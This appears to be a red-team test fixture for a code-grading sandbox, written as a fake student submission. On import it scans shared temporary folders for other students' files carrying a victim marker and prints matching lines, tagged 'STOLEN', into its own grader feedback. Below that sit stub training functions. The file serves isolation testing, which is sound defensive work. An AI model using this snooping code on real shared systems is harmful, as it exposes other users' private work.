"""Red-team fixture: looks for other students' staged code (marked with the victim's secret) in
the temporary folders for up to 6 seconds (less than the idle limit) and prints what it finds
into its own feedback. The test writes ``hostile_paths.py`` (VICTIM_SECRET) next to this file:
the whole secret, so that a copy of the project's tests lying in /tmp is no find."""
import os
import time

from hostile_paths import VICTIM_SECRET as MARKER

HERE = os.path.dirname(os.path.abspath(__file__))


def _find_victims():
    found = []
    for root in ("/tmp", "/var/tmp", "/dev/shm"):
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) >= 3:
                dirs[:] = []
            if os.path.abspath(folder) == HERE:
                continue
            for name in files:
                if not name.endswith(".py"):
                    continue
                try:
                    with open(os.path.join(folder, name), "rb") as f:
                        data = f.read(1 << 20)
                except OSError:
                    continue
                for line in data.decode("utf-8", "replace").splitlines():
                    if MARKER in line:
                        found.append(f"STOLEN {folder}/{name}: {line.strip()}")
    return found


def _look():
    deadline = time.time() + 6
    while time.time() < deadline:
        found = _find_victims()
        if found:
            print("\n".join(found[:5]))
            return
        time.sleep(0.5)
    print("found nothing")


_look()


def step_argument(batch_size, mean):
    return 0


def train_step(net, trainer, loss, X, y):
    raise NotImplementedError
